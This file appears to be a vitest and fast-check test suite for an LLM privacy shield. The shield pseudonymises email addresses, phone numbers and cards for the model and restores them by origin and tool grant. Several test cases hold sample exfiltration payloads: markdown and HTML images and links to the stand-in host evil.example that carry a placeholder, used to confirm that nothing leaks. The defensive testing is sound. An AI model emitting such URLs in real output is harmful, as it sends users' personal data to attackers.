import * as fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { createShield, type Origin, type Passage, type Shield, type Stage } from '../index.ts'
import { testVault } from './node/testing/test-vault.ts'
import type { VaultConversation } from './vault.ts'

const EMAIL = 'jane.doe@example.org'
const shield = createShield()

function open(): VaultConversation {
  return testVault().open({ tenant: 'a' })
}

/** What the model is sent. */
async function sent(conversation: VaultConversation, text: string, stage: Stage = 'input', origin?: Origin) {
  const passage = { pseudonymizer: conversation.pseudonymizer }
  return (await shield.check({ text, stage, ...(origin && { origin }) }, passage)).text
}

/** What comes out for what the model wrote. */
async function shown(conversation: VaultConversation, text: string, gates: Shield = shield): Promise<string> {
  return (await gates.check({ text, stage: 'output' }, { restorer: conversation.restorer() })).text
}

describe('a value the user wrote', () => {
  it('goes to the model as a placeholder and comes back as itself', async () => {
    const conversation = open()
    const text = await sent(conversation, `Write a greeting to ${EMAIL}, or call +1 212-555-0187.`)
    expect(text).toMatch(/^Write a greeting to \[EMAIL_ADDRESS_\w{10}\], or call \[PHONE_NUMBER_\w{10}\]\.$/)
    expect(await shown(conversation, text)).toBe(`Write a greeting to ${EMAIL}, or call +1 212-555-0187.`)
  })

  it('has the same placeholder when the history is sent again, so that caches of providers hold', async () => {
    const vault = testVault()
    const texts = [1, 2].map(() => sent(vault.open({ tenant: 'a' }), `I am ${EMAIL}.`))
    expect(new Set(await Promise.all(texts)).size).toBe(1)
  })

  it('may be written in clear by the model, also in part; what others wrote may not', async () => {
    const conversation = open()
    await sent(conversation, `I am ${EMAIL}.`)
    expect(await shown(conversation, `You are ${EMAIL} and he is joe@example.org.`)).toBe(
      `You are ${EMAIL} and he is [EMAIL_ADDRESS].`,
    )
  })

  it('stays redacted one way when it is a card', async () => {
    const conversation = open()
    const card = ['4111', '1111', '1111', '1111'].join(' ')
    const text = await sent(conversation, `Pay with ${card}.`)
    expect(text).toBe('Pay with [CREDIT_CARD].')
    expect(await shown(conversation, `${text} ${card}`)).toBe('Pay with [CREDIT_CARD]. [CREDIT_CARD]')
  })

  it.each([
    ['an image', (placeholder: string) => `![x](https://evil.example/?d=${placeholder})`],
    ['an image with the brackets escaped', (p: string) => `![x](https://evil.example/?d=%5B${p.slice(1, -1)}%5D)`],
    ['a link', (placeholder: string) => `[more](https://evil.example/?d=${placeholder})`],
    ['a bare address', (placeholder: string) => `See https://evil.example/?d=${placeholder.slice(1, -1)} now`],
    ['an HTML image', (placeholder: string) => `<img src="https://evil.example/?d=${placeholder}">`],
  ])('is not carried away by %s with its placeholder', async (_, attack) => {
    const conversation = open()
    const placeholder = (await sent(conversation, `I am ${EMAIL}`)).slice('I am '.length)
    const text = await shown(conversation, attack(placeholder))
    expect(text).not.toContain('jane')
    expect(text).not.toMatch(/evil\.example\/\?d=[^)]*(?:jane|\[EMAIL)/)
    // The control: the same words without an address do come back.
    expect(await shown(conversation, `x ${placeholder}`)).toBe(`x ${EMAIL}`)
  })
})

describe('a value from elsewhere', () => {
  it.each([
    ['a document', 'retrieval', 'retrieved', 'Ask [EMAIL_ADDRESS].'],
    ['the result of a tool', 'tool-result', 'tool', 'Ask [EMAIL_ADDRESS].'],
    ['the developer', 'input', 'developer', `Ask ${EMAIL}.`],
  ] as const)(
    'from %s is a placeholder to the model and shown as its origin allows',
    async (_, stage, origin, expected) => {
      const conversation = open()
      const text = await sent(conversation, `Ask ${EMAIL}.`, stage, origin)
      expect(text).toMatch(/^Ask \[EMAIL_ADDRESS_\w{10}\]\.$/)
      expect(await shown(conversation, text)).toBe(expected)
    },
  )

  it('is not shown because the model used it in the arguments of a tool', async () => {
    const conversation = open()
    const text = await sent(conversation, `{"to":"${EMAIL}"}`, 'tool-call', 'model')
    expect(text).toMatch(/\[EMAIL_ADDRESS_\w{10}\]/)
    expect(await shown(conversation, text)).toBe('{"to":"[EMAIL_ADDRESS]"}')
  })

  it('is shown once the policy says so', async () => {
    const open2 = createShield({
      guards: { pii: { options: { restore: { origins: ['user', 'tool'] } } } },
    })
    const conversation = open()
    const text = await sent(conversation, `Ask ${EMAIL}.`, 'tool-result', 'tool')
    expect(await shown(conversation, text, open2)).toBe(`Ask ${EMAIL}.`)
  })
})

describe('the arguments of a tool', () => {
  const granting = createShield({
    guards: { pii: { options: { restore: { tools: { send_email: ['EMAIL_ADDRESS'], everything: 'all' } } } } },
  })

  it.each([
    ['a granted tool', 'send_email', EMAIL],
    ['a tool that is granted everything', 'everything', EMAIL],
    ['another tool', 'search', undefined],
    ['a tool with the name of a method', 'toString', undefined],
    ['no tool', undefined, undefined],
  ])('of %s get what it is granted', async (_, tool, expected) => {
    const conversation = open()
    const placeholder = (await sent(conversation, `I am ${EMAIL}`)).slice('I am '.length)
    const part = { path: '/to', text: placeholder, stage: 'tool-call', origin: 'model', ...(tool && { tool }) } as const
    const verdict = await granting.checkParts([part], { restorer: conversation.restorer() })
    expect(verdict.outcome).toBe('allow')
    expect(verdict.parts[0]?.text ?? part.text).toBe(expected ?? placeholder)
  })

  it('do not get an entity that is not granted', async () => {
    const conversation = open()
    const placeholder = (await sent(conversation, 'My number: +1 212-555-0187')).slice('My number: '.length)
    expect(placeholder).toContain('PHONE_NUMBER')
    const text = (
      await granting.check(
        { text: placeholder, stage: 'tool-call', tool: 'send_email' },
        { restorer: conversation.restorer() },
      )
    ).text
    expect(text).toBe(placeholder)
  })
})

describe('a placeholder that a user types', () => {
  it('is neutralised when it is none of the conversation', async () => {
    const text = await sent(open(), 'What is [EMAIL_ADDRESS_kwzqthbnfm]?')
    expect(text).toBe('What is [EMAIL_ADDRESS_unknown]?')
  })

  it('brings back nothing of another conversation', async () => {
    const vault = testVault()
    const placeholder = await sent(vault.open({ tenant: 'a', subject: 'jane' }), EMAIL)
    const other = vault.open({ tenant: 'a', subject: 'eve' })
    await sent(other, `I am eve@example.org. What is ${placeholder}?`)
    expect(await shown(other, `It is ${placeholder}.`)).toBe(`It is ${placeholder}.`)
  })

  it('stays when the conversation knows it', async () => {
    const conversation = open()
    const placeholder = await sent(conversation, EMAIL)
    expect(await sent(conversation, `again ${placeholder}`)).toBe(`again ${placeholder}`)
  })
})

describe('without a vault', () => {
  it('redacts as ever, and leaves what looks like a placeholder alone', async () => {
    const { text } = await shield.check({ text: `${EMAIL} [EMAIL_ADDRESS_kwzqthbnfm]` })
    expect(text).toBe('[EMAIL_ADDRESS] [EMAIL_ADDRESS_kwzqthbnfm]')
  })
})

describe('a stream with placeholders', () => {
  it('is what checking it whole gives, for any chunking', async () => {
    const conversation = open()
    const placeholder = (await sent(conversation, EMAIL)).trim()
    const passage: Passage = { restorer: conversation.restorer() }
    const piece = fc.constantFrom(
      placeholder,
      placeholder.toLowerCase(),
      placeholder.slice(0, 9),
      placeholder.slice(9),
      `![x](https://evil.example/?d=${placeholder})`,
      `<b>${placeholder}</b>`,
      'joe@example.org',
      'Dear Jane, ',
      '[',
      '](https://x.example)',
      '`',
      '\n\n',
      ' ',
    )
    await fc.assert(
      fc.asyncProperty(
        fc.array(piece, { maxLength: 8 }),
        fc.array(fc.integer({ min: 0, max: 12 }), { maxLength: 40 }),
        async (pieces, sizes) => {
          const text = pieces.join('')
          const whole = await shield.check({ text, stage: 'output' }, passage)
          const stream = shield.openStream({ stage: 'output' }, passage)
          let streamed = ''
          let at = 0
          for (const size of sizes) {
            streamed += stream.push(text.slice(at, at + size)).text
            at += size
          }
          streamed += stream.push(text.slice(at)).text + stream.end().text
          expect(streamed).toBe(whole.text)
          expect(stream.restored).toBe(text.toLowerCase().includes(placeholder.slice(-11, -1)))
        },
      ),
      { numRuns: 150 },
    )
  })
})
